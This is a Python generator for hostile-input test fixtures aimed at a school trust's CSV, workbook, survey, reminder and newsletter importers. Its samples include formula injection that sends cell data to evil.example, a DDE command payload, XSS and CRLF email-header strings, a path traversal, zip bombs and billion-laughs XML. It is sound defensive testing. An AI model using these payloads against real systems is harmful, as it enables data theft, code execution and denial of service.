#!/usr/bin/python3
"""Writes every hostile case file and cases.json. Run it after adding or changing a case here:
byte offsets and check letters in the expected messages are computed, not typed."""
import json, os
D = os.path.dirname(os.path.abspath(__file__))
for f in os.listdir(D):
    if f != os.path.basename(__file__): os.remove(os.path.join(D, f))
LET = "ABCDEFGHJKLMNPQRTUVWXYZ"
def upn(n, school=7):
    digits = "%03d%04d%02d%03d" % (380, 2000 + school, 21, n)
    s = sum(w * int(d) for w, d in zip(range(2, 14), digits))
    return LET[s % 23] + digits
HEADER = "upn,year,gender,pp,eal,send,reading,writing,maths,reading_target,writing_target,maths_target,gld,phonics,mtc"
def row(n, year="3", **kw):
    v = dict(upn=upn(n), year=year, gender="F", pp="N", eal="N", send="N", reading="EXS", writing="EXS",
             maths="EXS", reading_target="EXS", writing_target="EXS", maths_target="EXS", gld="", phonics="", mtc="")
    if year in ("N", "R"):
        for k in ("reading", "writing", "maths", "reading_target", "writing_target", "maths_target"): v[k] = ""
    if year == "R": v["gld"] = "Y"
    v.update(kw)
    return ",".join(v[c] for c in HEADER.split(","))
def csv(*rows, header=HEADER, eol="\r\n"):
    return (eol.join([header, *rows]) + eol).encode()
GOOD = [row(i) for i in range(1, 5)]
cases = []
def case(name, body, outcome, expect, target="datadrop", why="", **env):
    if body is not None:
        with open(os.path.join(D, name), "wb") as f: f.write(body)
    c = {"file": name, "target": target, "why": why}
    c.update(env)
    c["outcome"] = outcome
    c["expect"] = expect
    cases.append(c)
def drop(name, body, expect, why, outcome="rejected", **env):
    case(name, body, outcome, expect, why=why, **env)

# --- encodings and bytes
drop("empty.csv", b"", "the file is empty; it needs the header row upn,year", "a zero-byte upload")
drop("header-only.csv", csv(), "the file has no pupil rows", "header row and nothing else")
drop("blank-comma-rows.csv", csv(",,,,,,,,,,,,,,", ",,,,,,,,,,,,,,"), "the file has no pupil rows", "a spreadsheet's formatted-but-empty rows only")
drop("utf16le-bom.csv", b"\xff\xfe" + csv(*GOOD).decode().encode("utf-16-le"), "the file is UTF-16; save it as CSV UTF-8", "Excel 'Unicode text' export")
drop("utf16be-bom.csv", b"\xfe\xff" + csv(*GOOD).decode().encode("utf-16-be"), "the file is UTF-16; save it as CSV UTF-8", "UTF-16 big-endian with BOM")
drop("utf16le-no-bom.csv", csv(*GOOD).decode().encode("utf-16-le"), "the file is UTF-16; save it as CSV UTF-8", "UTF-16 without a byte-order mark")
b = bytearray(csv(GOOD[0], GOOD[1], GOOD[2]))
# windows-1252 e-acute inside line 3's gender value
line3 = b.find(b"\r\n", b.find(b"\r\n") + 2) + 2
gpos = b.index(b",F,", line3) + 2
b[gpos:gpos] = b"\xe9"
drop("windows-1252.csv", bytes(b), "line 3, column gender: \"Fé\" is not a gender code", "saved as Windows-1252 (an e-acute on line 3): read as such, so the value is quoted as typed")
b = bytearray(csv(GOOD[0], GOOD[1]))
npos = b.index(b",EXS,", b.find(b"\r\n") + 2) + 1
b[npos:npos] = b"\x00"
drop("nul-byte.csv", bytes(b), "line 2: a NUL byte at byte offset %d" % npos, "one NUL byte in a value")
drop("binary-xlsx.csv", b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + bytes(range(128, 256)), "the workbook is damaged or incomplete (the zip directory at its end is missing", "the first bytes of a zip and nothing of a workbook")
ov = b"\xef\xbb\xbf" + csv(row(1, gender="QQ"))
opos = ov.index(b"QQ")
drop("binary-xls.csv", bytes([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) + bytes(504), "the file is an Excel 97-2003 workbook (.xls); save it as Excel Workbook (.xlsx) or CSV UTF-8", "an old .xls workbook")
drop("utf8-bom-overlong.csv", ov.replace(b"QQ", b"\xc0\xaf"), "line 2: invalid UTF-8 at byte offset %d" % opos, "an overlong UTF-8 sequence (a disguised slash) after a BOM")
# --- hostile workbooks (recipes: Tests/Fixtures/xlsx/make_xlsx.py writes them at test time)
def workbook(name, kind, expect, why, target="datadrop", csv_text=None):
    recipe = {"workbook": kind, **({"csv": csv_text} if csv_text else {})}
    case(name, json.dumps(recipe).encode(), "rejected" if target == "datadrop" else DL, expect,
         target=target, why=why, **({"routing_key": "survey.colleagues-2022"} if target == "survey" else {}))
RATIO = "expands to more than 100 times its compressed size, far beyond any spreadsheet (a zip bomb)"
DOCTYPE = "it has a DOCTYPE or other declaration, which can define entities"
ENCRYPTED = "the workbook is protected with a password (encrypted); in Excel choose File > Info"
workbook("xlsx-zip-bomb.recipe.json", "zip-bomb", RATIO, "a sheet of 1 GiB of spaces in 1 MB")
workbook("xlsx-doctype.recipe.json", "doctype", DOCTYPE, "a DOCTYPE with nested entities (billion laughs)")
workbook("xlsx-entity.recipe.json", "entity", "the entity reference &lol3; is not one of XML's five", "an undeclared entity reference")
workbook("xlsx-empty-rows.recipe.json", "empty-rows-1000000", "Sheet1 row 10002: more than 10000 rows after the header", "a sheet of 1,000,000 empty rows")
workbook("xlsx-encrypted.recipe.json", "encrypted", ENCRYPTED, "a password-protected workbook (an OLE2 container)")
workbook("xlsx-bad-year.recipe.json", "csv", "Sheet1!B3, column year: \"7\" is not a primary year (N, R, 1–6)",
         "a valid workbook with one wrong value", csv_text=csv(GOOD[0], row(2, year="7")).decode())
# --- size (recipes)
case("big-50mb.recipe.json", json.dumps({"header": HEADER, "row": row(1), "bytes": 52428800}).encode(), "rejected",
     "the file is too large: 52428800 bytes (50.0 MB); the limit is 5242880 bytes (5.0 MB)", why="a 50 MB file, generated at test time")
case("columns-100000.recipe.json", json.dumps({"header_columns": 100000, "row": row(1)}).encode(), "rejected",
     "line 1: more than 200 columns; the limit is 200", why="100,000 columns, generated at test time")
case("rows-10001.recipe.json", json.dumps({"header": HEADER, "rows": 10001, "row": ",,,,,,,,,,,,,,"}).encode(), "rejected",
     "line 10002: more than 10000 rows after the header; the limit is 10000", why="10,001 pupil rows, generated at test time")
drop("field-too-long.csv", csv(row(1, gender="X" * 2000)), "line 2: a value is longer than 1024 bytes", "a 2,000-character value")
# --- header
drop("missing-column.csv", csv(*[r.rsplit(",", 1)[0] for r in GOOD], header=HEADER.rsplit(",", 1)[0]), "the header lacks the column mtc", "the mtc column left out")
drop("missing-columns.csv", csv(*[",".join(r.split(",")[:3]) for r in GOOD], header="upn,year,gender"), "the header lacks the columns pp, eal, send", "only three columns")
drop("duplicate-column.csv", csv(*[r + ",EXS" for r in GOOD], header=HEADER + ",reading"), "column reading: the column appears twice (columns 7 and 16)", "reading twice")
drop("extra-column.csv", csv(*[r + ",see me" for r in GOOD], header=HEADER + ",notes"), "\"notes\" (column 16) is not a data-drop column", "an extra column nobody expects (name columns are dropped instead)")
drop("unnamed-column.csv", csv(*[r + "," for r in GOOD], header=HEADER + ","), "column 16 has no name; delete the empty column", "a trailing comma on every line")
drop("header-formula.csv", csv(*GOOD, header="\"=HYPERLINK(\"\"http://evil.example/\"\",\"\"upn\"\")\"" + HEADER[3:]),
     "\"=HYPERLINK(\\\"http://evil.example/\\\",\\\"upn\\\")\" (column 1) is not a data-drop column", "a spreadsheet formula as a column name")
# --- values
drop("wrong-judgement-code.csv", csv(GOOD[0], row(2, reading="Exceeding")), "line 3, column reading: \"Exceeding\" is not a judgement (BLW, WTS, EXS or GDS; or A absent, D disapplied, J new arrival)", "a judgement from another framework")
drop("wrong-send-code.csv", csv(GOOD[0], row(2, send="SEN")), "line 3, column send: \"SEN\" is not a SEND code (N, K or E)", "an old SEND code")
drop("wrong-yes-no.csv", csv(row(1, pp="TRUE")), "line 2, column pp: \"TRUE\" is not Y or N", "a spreadsheet's TRUE for Y")
drop("duplicate-pupil.csv", csv(*GOOD, row(2)), "line 6, column upn: \"", "one pupil twice")
drop("bad-upn-check-letter.csv", csv(GOOD[0], ("Z" if upn(2)[0] != "Z" else "A") + row(2)[1:]), "line 3, column upn:", "a mistyped UPN")
drop("temporary-upn.csv", csv(row(1, upn=upn(1)[:12] + "A")), "is a temporary UPN; use the pupil's permanent UPN", "a temporary UPN")
drop("year-7.csv", csv(GOOD[0], row(2, year="7")), "line 3, column year: \"7\" is not a primary year (N, R, 1–6)", "a secondary pupil")
drop("judgements-on-nursery.csv", csv(GOOD[0], row(2, year="N", reading="EXS")), "line 3, column reading: \"EXS\" is given for a nursery pupil, but reading is for years 1–6 only", "a judgement on a nursery row")
drop("gld-on-year-3.csv", csv(row(1, gld="Y")), "line 2, column gld: \"Y\" is given for a year 3 pupil, but gld is for reception only", "gld outside reception")
drop("phonics-out-of-range.csv", csv(row(1, year="1", phonics="41")), "line 2, column phonics: \"41\" is not a whole number from 0 to 40; or A absent, D disapplied, J new arrival", "a phonics score of 41")
drop("missing-required-value.csv", csv(row(1, maths="")), "line 2, column maths: a value is required for year 3 (BLW, WTS, EXS or GDS; or A absent, D disapplied, J new arrival)", "an empty maths judgement")
drop("formula-hyperlink.csv", csv(row(1, gender='"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"')), "line 2, column gender: \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,…\" is not a gender code", "a spreadsheet formula in a value")
drop("formula-plus-minus-at.csv", csv(row(1, eal="+cmd|' /C calc'!A0")), "line 2, column eal: \"+cmd|' /C calc'!A0\" is not Y or N", "a DDE-style formula")
drop("script-in-value.csv", csv(row(1, gender="<script>alert(1)</script>")), "line 2, column gender: \"<script>alert(1)</script>\" is not a gender code", "HTML in a value")
drop("crlf-in-quoted-value.csv", csv(row(1, year='"3\r\n4"')), "line 2, column year: \"3\\r\\n4\" is not a primary year", "a line break inside a quoted year")
drop("bidi-override.csv", csv(row(1, send="N\u202eK")), "line 2, column send: \"N\\u{202E}K\" is not a SEND code", "a right-to-left override hiding in a value")
drop("many-errors.csv", csv(*[row(i, year="7") for i in range(1, 121)]), "… and 20 more errors", "120 bad rows: the list is capped with a count")
# --- structure
drop("unterminated-quote.csv", csv(GOOD[0], GOOD[1].replace(",F,", ',"F,', 1), GOOD[2]), "line 3: a quoted field starts here but its closing quote (\") is missing", "a quote opened and never closed")
drop("stray-quote.csv", csv(GOOD[0], GOOD[1].replace(",F,", ',F"x,', 1)), "line 3: a quote (\") inside a field that does not start with a quote", "a quote in the middle of a value")
drop("text-after-quote.csv", csv(row(1, gender='"F"x')), "line 2: text after a closing quote", "text after a closing quote")
drop("ragged-row.csv", csv(GOOD[0], ",".join(GOOD[1].split(",")[:-1])), "line 3: this row has 14 fields but the header has 15", "a row one value short")
drop("unquoted-comma.csv", csv(row(1, gender="F, M")), "line 2: this row has 16 fields but the header has 15", "a comma inside an unquoted value")
# --- envelope: dead-lettered
DL = "dead-lettered"
drop("unknown-academy.csv", csv(*GOOD), "unknown academy \"hogwarts\" in the routing key", "a drop for an academy not in academies.json", outcome=DL, routing_key="datadrop.hogwarts")
drop("academy-header-disagrees.csv", csv(*GOOD), "the routing key names \"birstall\" but the x-academy header names \"coppice\"", "routing key and x-academy disagree", outcome=DL, headers={"x-drop": "2021-22/autumn", "x-academy": "coppice"})
drop("missing-drop-header.csv", csv(*GOOD), "the x-drop header is missing; it names the drop", "no x-drop header", outcome=DL, headers={})
drop("invalid-drop-header.csv", csv(*GOOD), "the x-drop header \"2021/autumn\" is not a drop", "x-drop not YYYY-YY/term", outcome=DL, headers={"x-drop": "2021/autumn"})
drop("no-message-id.csv", csv(*GOOD), "message has no message_id", "a drop published without a message_id", outcome=DL, message_id=None)
drop("empty-message-id.csv", csv(*GOOD), "message has no message_id", "a drop published with an empty message_id", outcome=DL, message_id="")

# --- reminders / calendar: dead-lettered
def rem(name, body, expect, why, key="reminder.due", **env):
    case(name, body if isinstance(body, bytes) else body.encode(), DL, expect, target="reminder", why=why, routing_key=key, **env)
OCC = "curriculum-pedagogy-leads-2021-09-15"
rem("reminder-malformed-json.json", '{"forum_id": "curriculum-pedagogy-leads", "occurrence": ', "reminder.due: the body is not a JSON object", "JSON cut off mid-object")
rem("reminder-json-array.json", '[1, 2, 3]', "reminder.due: the body is not a JSON object", "a JSON array, not an object")
rem("reminder-empty-body.json", '', "reminder.due: the body is not a JSON object", "no body at all")
rem("reminder-not-utf8.json", b'{"forum_id": "\xff\xfe", "occurrence": "x", "lead_days": 7}', "reminder.due: the body is not a JSON object", "invalid UTF-8 inside a JSON string")
rem("reminder-nul-byte.json", b'{"forum_id": "a\x00b", "occurrence": "x", "lead_days": 7}', "reminder.due: the body is not a JSON object", "a raw NUL inside a JSON string")
case("reminder-deeply-nested.recipe.json", json.dumps({"nest": 100000, "open": "[", "close": "]"}).encode(), DL, "reminder.due: the body is not a JSON object", target="reminder", why="100,000 nested arrays, generated at test time", routing_key="reminder.due")
case("calendar-deeply-nested.recipe.json", json.dumps({"nest": 100000, "open": "{\"a\":", "close": "}"}).encode(), DL, "calendar.update: the body is not a JSON object", target="reminder", why="100,000 nested objects, generated at test time", routing_key="calendar.update")
rem("reminder-lead-days-text.json", json.dumps({"forum_id": "curriculum-pedagogy-leads", "occurrence": OCC, "lead_days": "7"}), "reminder.due: \"lead_days\" \"7\" should be a whole number", "lead_days in quotes")
rem("reminder-lead-days-huge.json", '{"forum_id": "curriculum-pedagogy-leads", "occurrence": "%s", "lead_days": 1e300}' % OCC, "reminder.due: \"lead_days\" 1e+300 should be a whole number", "lead_days far beyond Int")
rem("reminder-lead-days-range.json", json.dumps({"forum_id": "curriculum-pedagogy-leads", "occurrence": OCC, "lead_days": 999}), "reminder.due: \"lead_days\" 999 is not a number of days from 0 to 60", "lead_days out of range")
rem("reminder-missing-field.json", json.dumps({"forum_id": "curriculum-pedagogy-leads", "lead_days": 7}), "reminder.due: \"occurrence\" is missing", "no occurrence")
rem("reminder-unknown-occurrence.json", json.dumps({"forum_id": "curriculum-pedagogy-leads", "occurrence": "<script>alert(1)</script>\r\nBcc: all@example.org", "lead_days": 7}), "reminder.due: \"occurrence\" \"<script>alert(1)</script> Bcc: all@example.org\" is not an occurrence id in forums.json", "HTML and CRLF in the occurrence id")
rem("reminder-wrong-forum.json", json.dumps({"forum_id": "english-leaders", "occurrence": OCC, "lead_days": 7}), "reminder.due: \"forum_id\" \"english-leaders\" is not the forum of occurrence", "forum and occurrence disagree")
rem("reminder-unknown-type.json", json.dumps({"forum_id": "x"}), "routing key \"reminder.snooze\" and type \"reminder.snooze\" are neither reminder.due nor calendar.update", "a message type nobody handles", key="reminder.snooze")
rem("reminder-no-message-id.json", json.dumps({"forum_id": "curriculum-pedagogy-leads", "occurrence": OCC, "lead_days": 7}), "message has no message_id", "a valid body without a message_id", message_id=None)
rem("calendar-unknown-action.json", json.dumps({"occurrence": OCC, "action": "postpone"}), "calendar.update: \"action\" \"postpone\" is not one of move, cancel", "an action that does not exist", key="calendar.update")
rem("calendar-impossible-date.json", json.dumps({"occurrence": OCC, "action": "move", "date": "2021-02-30"}), "calendar.update: \"date\" \"2021-02-30\" is not a real calendar date", "30 February", key="calendar.update")
rem("calendar-bad-time.json", json.dumps({"occurrence": OCC, "action": "move", "date": "2021-09-16", "start": "25:00"}), "calendar.update: \"start\" \"25:00\"", "25 o'clock", key="calendar.update")
rem("calendar-reason-not-text.json", json.dumps({"occurrence": OCC, "action": "cancel", "reason": {"nested": ["x"]}}), "calendar.update: \"reason\" {\"nested\":[\"x\"]} should be text in quotes", "a reason that is an object", key="calendar.update")

# --- survey exports: dead-lettered (SurveyHandler throws; the runtime dead-letters with x-error)
ROOT = os.path.join(D, "..", "..", "..")
SURVEY = json.load(open(os.path.join(ROOT, "Config/surveys/colleagues-2022.json")))
def q(text): return '"' + text.replace('"', '""') + '"'
S_HEADER = ",".join(q(t) for t in ["ID", "Start time", "Completion time", "Email", "Name", SURVEY["academy_question"]] + [x["text"] for x in SURVEY["questions"]])
def answer(x, **kw):
    if x["id"] in kw: return kw[x["id"]]
    return {"choice": x.get("choices", [""])[0], "likert5": "Agree", "multi": "", "text": ""}[x["type"]]
def srow(n, academy="Birstall Primary Academy", **kw):
    cells = [str(n), "6/6/22 9:00:00", "6/6/22 9:05:00", "anonymous", "", academy] + [answer(x, **kw) for x in SURVEY["questions"]]
    return ",".join(q(c) for c in cells)
def sv(name, body, expect, why, key="survey.colleagues-2022", **env):
    case(name, body if isinstance(body, bytes) else body.encode(), DL, expect, target="survey", why=why, routing_key=key, **env)
def export(*rows, header=S_HEADER): return "\r\n".join([header, *rows]) + "\r\n"
GOOD_S = [srow(i) for i in range(1, 4)]
sv("survey-unknown.csv", export(*GOOD_S), "there is no survey \"no-such-survey\" (Config/surveys/no-such-survey.json; known: colleagues-2022, families-2022)", "an export for a survey with no config", key="survey.no-such-survey")
sv("survey-path-in-id.csv", export(*GOOD_S), "routing key \"survey./etc/passwd\" is not survey.<survey-id>", "a survey id that names a path", key="survey./etc/passwd")
sv("survey-wrong-type.csv", export(*GOOD_S), "message type \"survey.exported\" is not survey.submitted", "the right routing key with the wrong message type", type="survey.exported")
sv("survey-empty.csv", "", "1 problem: the file is not a readable CSV export: the file is empty", "a zero-byte export")
sv("survey-header-only.csv", export(), "1 problem: the export has a header row but no responses", "header and nothing else")
sv("survey-utf16.csv", b"\xff\xfe" + export(*GOOD_S).encode("utf-16-le"), "the file is not a readable CSV export: the file is UTF-16; save it as CSV UTF-8", "Excel 'Unicode text' export")
sv("survey-nul-byte.csv", export(*GOOD_S).encode().replace(b"anonymous", b"anony\x00mous", 1), "the file is not a readable CSV export: line 2: a NUL byte at byte offset", "a NUL byte in a cell")
sv("survey-broken-quote.csv", export(GOOD_S[0], GOOD_S[1][:-1]), "the file is not a readable CSV export: line 3: a quoted field starts here but its closing quote", "the last quote of the file missing")
sv("survey-missing-id-column.csv", export(*[r.split(",", 1)[1] for r in GOOD_S], header=S_HEADER.split(",", 1)[1]), "there is no column \"ID\" for Forms' response ID", "the ID column deleted")
sv("survey-missing-question.csv", export(*[r.rsplit(",", 1)[0] for r in GOOD_S], header=S_HEADER.rsplit(",", 1)[0]), "for question anything-else", "the last question's column deleted")
sv("survey-duplicate-column.csv", export(*[r + ',"Agree"' for r in GOOD_S], header=S_HEADER + "," + q(SURVEY["questions"][2]["text"])), "appears more than once", "a question column twice")
sv("survey-unknown-column.csv", export(*[r + ',"x"' for r in GOOD_S], header=S_HEADER + ',"=HYPERLINK(""http://evil.example/"",""Bonus"")"'), "is not a question of this survey", "a formula as an extra column name")
sv("survey-blank-id.csv", export(GOOD_S[0], srow(2).replace('"2"', '""', 1)), "row 3: the ID is blank", "a response with no ID")
sv("survey-repeated-id.csv", export(*GOOD_S, srow(2)), "row 5: the ID is the same as row 3's", "one response twice")
sv("survey-unknown-academy.csv", export(GOOD_S[0], srow(2, academy="Hogwarts School")), "row 3: the academy answer is not one of the trust's academies", "an academy not in the trust")
sv("survey-blank-academy.csv", export(GOOD_S[0], srow(2, academy="")), "row 3: the academy question is not answered", "no academy")
sv("survey-not-on-scale.csv", export(GOOD_S[0], srow(2, safeguarding="Yes")), "row 3, question safeguarding: \"Yes\" is not on the agreement scale", "an answer off the Likert scale")
sv("survey-script-in-choice.csv", export(srow(1, service="<script>alert(1)</script>")), "row 2, question service: \"<script>alert(1)</script>\" is not one of its choices", "HTML as the answer to a question without Other")
sv("survey-comment-too-long.csv", export(srow(1, **{"keep-doing": "x" * 40000})), "line 2: a value is longer than 32768 bytes", "a 40,000-character comment")
sv("survey-no-message-id.csv", export(*GOOD_S), "message has no message_id", "an export without a message_id", message_id=None)

def sxlsx(name, kind, expect, why):
    workbook(name, kind, "the file is not a readable workbook: " + expect, why, target="survey")
sxlsx("survey-xlsx-zip-bomb.recipe.json", "zip-bomb", "the workbook's part xl/worksheets/sheet1.xml " + RATIO, "a sheet of 1 GiB of spaces in 1 MB")
sxlsx("survey-xlsx-entries.recipe.json", "entries-100000", "the zip holds 100000 parts; a workbook has a few dozen and the limit is 1000", "100,000 zip entries")
sxlsx("survey-xlsx-doctype.recipe.json", "doctype", "the workbook's part xl/worksheets/sheet1.xml is not readable: " + DOCTYPE, "billion laughs")
sxlsx("survey-xlsx-empty-rows.recipe.json", "empty-rows-1000000", "Sheet1 row 100002: more than 100000 rows after the header", "a sheet of 1,000,000 empty rows")
sxlsx("survey-xlsx-encrypted.recipe.json", "encrypted", ENCRYPTED, "a password-protected workbook")

# --- newsletter items and assembly: dead-lettered (NewsletterHandler throws permanent)
def news(name, body, expect, why, key="newsletter.item", outcome=DL, **env):
    case(name, body if isinstance(body, bytes) else body.encode(), outcome, expect, target="newsletter", why=why, routing_key=key, **env)
def item(**kw):
    v = {"title": "Sports day", "body": "All academies, 1 July.", "category": "trust-news", "author": "Central team"}
    v.update(kw)
    return json.dumps({k: x for k, x in v.items() if x is not None})
news("newsletter-title-too-long.json", item(title="Sports day " * 50), "newsletter item: title \"Sports day Sports day Sports day Sports day Sports day Sp...\" is 549 characters long; the limit is 120", "a 550-character title")
news("newsletter-body-oversized.json", item(body="x" * 1000000), "newsletter item: body is 1000000 characters long; the limit is 5000", "a 1 MB body")
news("newsletter-http-link.json", item(body="See http://evil.example/x for more"), "newsletter item: body \"http://evil.example/x\" is a plain http:// address; only https:// links are allowed", "an http:// address")
news("newsletter-javascript-link.json", item(body="[click me](javascript:alert(1))"), "is not an https:// link (write links as [text](https://…))", "a javascript: link")
news("newsletter-unknown-category.json", item(category="gossip"), "newsletter item: category \"gossip\" is not a newsletter category (expected one of: trust-news", "a category not in newsletter.json")
news("newsletter-unknown-academy.json", item(academy="hogwarts"), "newsletter item: academy \"hogwarts\" is not an academy id from academies.json", "an academy not in the trust")
news("newsletter-missing-author.json", item(author=None), "newsletter item: author is missing", "no author")
news("newsletter-title-not-text.json", item(title=42), "newsletter item: title should be text in double quotes", "a number as the title")
news("newsletter-title-only-line-breaks.json", item(title="\r\n\t\r\n"), "newsletter item: title is empty", "a title of nothing but CRLF and tabs")
news("newsletter-malformed-json.json", '{"title": "Sports day", "body": ', "newsletter item: message is not a JSON object", "JSON cut off mid-object")
case("newsletter-deeply-nested.recipe.json", json.dumps({"nest": 100000, "open": "{\"title\":", "close": "}"}).encode(), DL, "newsletter item: message is not a JSON object", target="newsletter", why="100,000 nested objects, generated at test time", routing_key="newsletter.item")
news("newsletter-unknown-routing-key.json", item(), "routing key \"newsletter.delete\" is not a newsletter message", "a message kind nobody handles", key="newsletter.delete")
news("newsletter-no-message-id.json", item(), "message has no message_id", "an item without a message_id", message_id=None)
news("newsletter-assemble-impossible-date.json", json.dumps({"issue_date": "2021-02-30"}), "newsletter.assemble: issue_date \"2021-02-30\" is not a real calendar date", "30 February", key="newsletter.assemble")
news("newsletter-assemble-not-json.json", b"issue_date=2021-09-24", "newsletter.assemble: the body is not a JSON object", "a form-encoded body", key="newsletter.assemble")
news("newsletter-script-crlf-title.json", item(title="<script>alert(1)</script>\r\nBcc: all@focus-trust.local"), "<script>alert(1)</script> Bcc: all@focus-trust.local", "HTML and CRLF in a title: stored as one line, escaped when rendered", outcome="stored")

with open(os.path.join(D, "cases.json"), "w") as f:
    json.dump({"about": "Hostile inputs: one case a file, written by make_cases.py. See HostileInputTests.swift. Defaults: datadrop cases go to datadrop.birstall with x-drop 2021-22/autumn, type datadrop.submitted, text/csv; survey cases are survey.submitted, text/csv; reminder and newsletter cases are application/json with type = routing key. message_id null means the property is left out; absent means a unique id is made. outcome: rejected (datadrop.rejected event, nothing stored), dead-lettered (x-error on the dead-letter queue, nothing stored) or stored (accepted made safe: expect is then text the stored newsletter item title must contain). expect: text the data manager's message must contain.",
               "cases": cases}, f, indent=1, ensure_ascii=False)
    f.write("\n")
from collections import Counter
print(len(cases), Counter(c["target"] for c in cases))
